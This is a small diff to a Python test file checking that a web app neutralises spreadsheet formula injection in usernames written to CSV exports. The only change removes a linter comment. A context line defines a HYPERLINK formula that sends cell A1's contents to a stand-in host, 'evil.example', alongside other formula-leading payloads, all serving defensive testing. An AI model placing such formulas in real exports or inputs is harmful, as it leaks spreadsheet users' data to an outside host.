@@ -15,7 +15,7 @@ FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")'
 HOSTILE_NAMES = [FORMULA, "+SUM(1,2)", "-2+3", "@SUM(1)"]  # the form strips tabs and CRs
 
 
-def test_a_hostile_username_is_neutralised_in_the_csv_and_exact_in_json_lines(app, town):  # noqa: ANN001
+def test_a_hostile_username_is_neutralised_in_the_csv_and_exact_in_json_lines(app, town):
     browser = app.test_client()
     for name in HOSTILE_NAMES:
         assert sign_in(browser, name, "falsch-falsch-falsch").status_code == 401
